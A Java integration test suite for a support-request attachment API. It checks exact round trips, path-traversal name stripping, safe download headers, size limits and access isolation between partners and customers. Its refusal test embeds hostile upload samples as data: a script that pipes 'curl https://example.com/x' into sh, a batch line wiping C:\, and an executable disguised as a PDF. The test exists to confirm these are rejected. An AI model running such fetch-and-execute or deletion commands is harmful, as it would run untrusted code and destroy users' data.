package io.partnerdesk.support.requests;

import static org.assertj.core.api.Assertions.assertThat;

import io.partnerdesk.testsupport.Api;
import io.partnerdesk.testsupport.Demo;
import io.partnerdesk.testsupport.Deployments;
import io.partnerdesk.testsupport.Fixtures;
import io.partnerdesk.testsupport.Fixtures.Desk;
import io.partnerdesk.testsupport.SupportFixtures;
import jakarta.inject.Inject;
import jakarta.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Files on support requests through the REST API ({@code …/supportrequests/{id}/attachments} for the
 * partner's staff and the customer's admin), each test with organisations of its own: the bytes come
 * back exactly as uploaded (across the chunks they are stored in), as a download; programs and
 * scripts are refused by what they are, whatever their name; the size limits of a file and of a
 * request hold and a refused upload leaves nothing behind; nobody outside the request sees its files,
 * and the partner a request was escalated to sees the files of the request it came from.
 */
@ExtendWith(ArquillianExtension.class)
class SupportAttachmentsIT {

    private static final String QUEUE = "api/v1/supportrequests/";
    private static final String MINE = "api/v1/customer/supportrequests/";
    private static final long MB = 1024L * 1024;

    @Deployment
    static WebArchive deployment() {
        return Deployments.portalWithTests(SupportAttachmentsIT.class, SupportFixtures.class);
    }

    @Inject
    Fixtures fixtures;

    @Inject
    Api api;

    @Inject
    SupportFixtures support;

    private final HttpClient client =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    private String open(String customerAdmin, UUID subscription, String title) {
        Api.Response opened = api.send(
                "POST",
                customerAdmin,
                "api/v1/customer/supportrequests",
                "{\"subscriptionId\":\"%s\",\"title\":\"%s\",\"description\":\"Attached what we see.\",\"severity\":\"B\"}"
                        .formatted(subscription, title));
        assertThat(opened.status()).as(opened.body()).isEqualTo(201);
        return opened.json().getString("id");
    }

    /** A {@code multipart/form-data} upload of one file (and a note number when given). */
    private HttpResponse<String> upload(
            String user, String path, String fileName, String type, byte[] bytes, String noteId) {
        String boundary = "----partnerdesk" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        try {
            if (noteId != null) {
                body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"noteId\"\r\n\r\n" + noteId
                                + "\r\n")
                        .getBytes(StandardCharsets.UTF_8));
            }
            body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                            + "\"\r\nContent-Type: " + type + "\r\n\r\n")
                    .getBytes(StandardCharsets.UTF_8));
            body.write(bytes);
            body.write(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            return client.send(
                    api.request(path, user)
                            .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                            .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()))
                            .build(),
                    HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private HttpResponse<byte[]> download(String user, String path) {
        try {
            return client.send(
                    api.request(path, user).setHeader("Accept", "*/*").GET().build(),
                    HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private List<String> fileNames(String user, String path) {
        Api.Response list = api.get(user, path);
        assertThat(list.status()).as(list.body()).isEqualTo(200);
        return list.json().getJsonArray("items").getValuesAs(JsonObject.class).stream()
                .map(a -> a.getString("fileName"))
                .toList();
    }

    private static byte[] png(int size) {
        byte[] bytes = new byte[size];
        new Random(size).nextBytes(bytes);
        byte[] magic = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
        System.arraycopy(magic, 0, bytes, 0, magic.length);
        return bytes;
    }

    private static JsonObject json(HttpResponse<String> response) {
        return new Api.Response(response).json();
    }

    @Test
    void theCustomerAndTheHandlersStaffShareFilesWhichComeBackExactlyAsUploaded() {
        Desk desk = fixtures.desk("Files", "partnerdesk-helpdesk-agents");
        String title = "Sign-in fails " + UUID.randomUUID();
        String id = open(desk.customerAdmin(), desk.subscription(), title);
        byte[] screenshot = png(700_000); // more than two of the chunks the bytes are stored in

        HttpResponse<String> added = upload(
                desk.customerAdmin(),
                MINE + id + "/attachments",
                "../../etc/Ekran görüntüsü.png",
                "image/png",
                screenshot,
                null);
        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
        JsonObject file = json(added);
        assertThat(file.getString("fileName"))
                .as("a path is dropped, the name kept")
                .isEqualTo("Ekran görüntüsü.png");
        assertThat(file.getString("contentType")).isEqualTo("image/png");
        assertThat(file.getJsonNumber("size").longValue()).isEqualTo(screenshot.length);
        assertThat(file.getString("uploadedBy")).isEqualTo(desk.customerAdmin());

        HttpResponse<byte[]> atTheDesk = download(desk.staff(), QUEUE + id + "/attachments/" + file.getString("id"));
        assertThat(atTheDesk.statusCode()).isEqualTo(200);
        assertThat(atTheDesk.body()).isEqualTo(screenshot);
        assertThat(atTheDesk.headers().firstValue("Content-Disposition").orElseThrow())
                .startsWith("attachment;")
                .contains("filename*=UTF-8''Ekran%20g%C3%B6r%C3%BCnt%C3%BCs%C3%BC.png");
        assertThat(atTheDesk.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(atTheDesk.headers().allValues("Content-Security-Policy"))
                .as("one policy, which runs nothing even when the file is opened in the browser")
                .singleElement()
                .asString()
                .startsWith("sandbox");
        assertThat(atTheDesk.headers().firstValue("Content-Type").orElseThrow()).startsWith("image/png");

        Api.Response noted = api.send("PATCH", desk.staff(), QUEUE + id, "{\"newNote\":\"Here is the sign-in log.\"}");
        assertThat(noted.status()).as(noted.body()).isEqualTo(200);
        byte[] log = "2026-12-03T10:00:00Z sign-in failed: AADSTS50126\n".getBytes(StandardCharsets.UTF_8);
        HttpResponse<String> onNote =
                upload(desk.staff(), QUEUE + id + "/attachments", "signin.log", "text/plain", log, "1");
        assertThat(onNote.statusCode()).as(onNote.body()).isEqualTo(201);
        assertThat(json(onNote).getInt("noteId")).isEqualTo(1);

        assertThat(fileNames(desk.customerAdmin(), MINE + id + "/attachments"))
                .containsExactly("Ekran görüntüsü.png", "signin.log");
        assertThat(download(
                                desk.customerAdmin(),
                                MINE + id + "/attachments/" + json(onNote).getString("id"))
                        .body())
                .isEqualTo(log);
        assertThat(fixtures.auditCount(id, "SUPPORT_REQUEST_ATTACHMENT_ADDED")).isEqualTo(2);
        assertThat(support.notificationsAbout(desk.customerAdmin(), "notice.request.partnerAttachment", title))
                .isEqualTo(1);
        assertThat(support.notificationsAbout(desk.staff(), "notice.request.customerAttachment", title))
                .isEqualTo(1);
    }

    @Test
    void programsAndScriptsAreRefusedByWhatTheyAreAndARefusedUploadLeavesNothing() {
        Desk desk = fixtures.desk("Refused", "partnerdesk-helpdesk-agents");
        String id = open(desk.customerAdmin(), desk.subscription(), "Refused files");
        String path = MINE + id + "/attachments";
        byte[] program = Arrays.copyOf("MZ\u0090\u0000\u0003".getBytes(StandardCharsets.ISO_8859_1), 4096);
        byte[] script = "#!/bin/sh\ncurl https://example.com/x | sh\n".getBytes(StandardCharsets.UTF_8);
        byte[] batch = "@echo off\r\ndel /q C:\\*\r\n".getBytes(StandardCharsets.UTF_8);
        byte[] harmless = "just text".getBytes(StandardCharsets.UTF_8);

        for (Object[] refused : List.of(
                new Object[] {"invoice.pdf", "application/pdf", program},
                new Object[] {"notes.txt", "text/plain", script},
                new Object[] {"readme", "text/plain", batch},
                new Object[] {"cleanup.ps1", "text/plain", harmless},
                new Object[] {"setup.exe.", "application/octet-stream", harmless})) {
            HttpResponse<String> answer = upload(
                    desk.customerAdmin(), path, (String) refused[0], (String) refused[1], (byte[]) refused[2], null);
            assertThat(answer.statusCode())
                    .as(refused[0] + ": " + answer.body())
                    .isEqualTo(415);
            assertThat(json(answer).getString("code")).isEqualTo("ATTACHMENT_TYPE_REFUSED");
        }
        HttpResponse<String> empty = upload(desk.customerAdmin(), path, "empty.txt", "text/plain", new byte[0], null);
        assertThat(empty.statusCode()).isEqualTo(400);
        assertThat(json(empty).getString("code")).isEqualTo("ATTACHMENT_EMPTY");
        HttpResponse<String> noSuchNote = upload(desk.customerAdmin(), path, "a.txt", "text/plain", harmless, "7");
        assertThat(noSuchNote.statusCode()).isEqualTo(400);
        HttpResponse<String> notANumber = upload(desk.customerAdmin(), path, "a.txt", "text/plain", harmless, "first");
        assertThat(notANumber.statusCode()).isEqualTo(400);
        assertThat(json(notANumber).getString("code")).isEqualTo("INVALID_REQUEST");

        assertThat(fileNames(desk.customerAdmin(), path)).isEmpty();
        assertThat(fixtures.auditCount(id, "SUPPORT_REQUEST_ATTACHMENT_ADDED")).isZero();
    }

    @Test
    void aFileOverTheLimitAndFilesBeyondTheRequestsRoomAreRefusedWhole() {
        Desk desk = fixtures.desk("Sizes", "partnerdesk-helpdesk-agents");
        String id = open(desk.customerAdmin(), desk.subscription(), "Large files");
        String path = QUEUE + id + "/attachments";

        HttpResponse<String> tooLarge =
                upload(desk.staff(), path, "dump.bin", "application/octet-stream", png((int) (10 * MB) + 1), null);
        assertThat(tooLarge.statusCode()).as(tooLarge.body()).isEqualTo(413);
        assertThat(json(tooLarge).getString("code")).isEqualTo("ATTACHMENT_TOO_LARGE");
        assertThat(json(tooLarge).getString("message")).contains("10 MB");

        for (String name : List.of("first.png", "second.png")) {
            assertThat(upload(desk.staff(), path, name, "image/png", png((int) (10 * MB)), null)
                            .statusCode())
                    .isEqualTo(201);
        }
        HttpResponse<String> full = upload(desk.staff(), path, "third.png", "image/png", png((int) (5 * MB) + 1), null);
        assertThat(full.statusCode()).as(full.body()).isEqualTo(413);
        assertThat(json(full).getString("code")).isEqualTo("ATTACHMENTS_FULL");
        assertThat(upload(desk.staff(), path, "last.png", "image/png", png((int) (5 * MB)), null)
                        .statusCode())
                .as("exactly the room that is left fits")
                .isEqualTo(201);

        assertThat(fileNames(desk.staff(), path)).containsExactly("first.png", "second.png", "last.png");
        assertThat(fixtures.auditCount(id, "SUPPORT_REQUEST_ATTACHMENT_ADDED")).isEqualTo(3);
    }

    @Test
    void nobodyOutsideTheRequestSeesItsFilesAndTheNextLevelSeesTheFilesItWasGiven() {
        UUID customer = fixtures.customer("Escalated files " + UUID.randomUUID());
        fixtures.relationship(Demo.CONTOSO, customer, Duration.ofDays(60));
        fixtures.relationship(Demo.FABRIKAM, customer, Duration.ofDays(60));
        UUID subscription =
                fixtures.subscription(customer, Demo.BUSINESS_STANDARD, Demo.CONTOSO, Demo.FABRIKAM, Demo.FABRIKAM);
        String admin = fixtures.customerAdmin(customer);
        String original = open(admin, subscription, "Escalated with files");
        String fromCustomer = json(upload(
                        admin,
                        MINE + original + "/attachments",
                        "trace.txt",
                        "text/plain",
                        "trace".getBytes(StandardCharsets.UTF_8),
                        null))
                .getString("id");
        Api.Response escalated = api.send(
                "POST",
                "felix",
                QUEUE + original + "/escalations",
                "{\"level\":\"PROVIDER\",\"note\":\"Over to you.\"}");
        assertThat(escalated.status()).as(escalated.body()).isEqualTo(201);
        String copy = escalated.json().getString("supportRequestId");
        HttpResponse<String> byProvider = upload(
                "hana",
                QUEUE + copy + "/attachments",
                "provider-notes.txt",
                "text/plain",
                "internal".getBytes(StandardCharsets.UTF_8),
                null);
        assertThat(byProvider.statusCode()).as(byProvider.body()).isEqualTo(201);
        String providerFile = json(byProvider).getString("id");

        assertThat(fileNames("hana", QUEUE + copy + "/attachments")).containsExactly("trace.txt", "provider-notes.txt");
        assertThat(download("hana", QUEUE + copy + "/attachments/" + fromCustomer)
                        .statusCode())
                .isEqualTo(200);
        assertThat(fileNames("felix", QUEUE + original + "/attachments")).containsExactly("trace.txt");
        assertThat(fileNames(admin, MINE + original + "/attachments")).containsExactly("trace.txt");
        assertThat(download("felix", QUEUE + original + "/attachments/" + providerFile)
                        .statusCode())
                .as("the reseller does not see what its provider attached")
                .isEqualTo(404);
        assertThat(download(admin, MINE + original + "/attachments/" + providerFile)
                        .statusCode())
                .isEqualTo(404);
        assertThat(api.get(admin, MINE + copy + "/attachments").status())
                .as("the customer does not reach the provider's copy")
                .isEqualTo(404);

        Desk stranger = fixtures.desk("Stranger", "partnerdesk-helpdesk-agents");
        for (String user : List.of(stranger.staff(), "hana")) {
            assertThat(api.get(user, QUEUE + original + "/attachments").status())
                    .as(user + " lists the reseller's request's files")
                    .isEqualTo(404);
            assertThat(download(user, QUEUE + original + "/attachments/" + fromCustomer)
                            .statusCode())
                    .isEqualTo(404);
            assertThat(upload(
                                    user,
                                    QUEUE + original + "/attachments",
                                    "x.txt",
                                    "text/plain",
                                    "x".getBytes(StandardCharsets.UTF_8),
                                    null)
                            .statusCode())
                    .isEqualTo(404);
        }
        assertThat(download(stranger.customerAdmin(), MINE + original + "/attachments/" + fromCustomer)
                        .statusCode())
                .isEqualTo(404);
        String strangersOwn = open(stranger.customerAdmin(), stranger.subscription(), "Mine");
        assertThat(download(stranger.customerAdmin(), MINE + strangersOwn + "/attachments/" + fromCustomer)
                        .statusCode())
                .as("another request's file through one's own request")
                .isEqualTo(404);
        assertThat(api.get("sam", QUEUE + original + "/attachments").status())
                .as("a sales agent does not work support")
                .isEqualTo(403);
        assertThat(api.get(admin, QUEUE + original + "/attachments").status())
                .as("a customer admin on the partner's endpoints")
                .isEqualTo(403);
        assertThat(fixtures.auditCount(original, "SUPPORT_REQUEST_ATTACHMENT_ADDED"))
                .isEqualTo(1);
    }
}
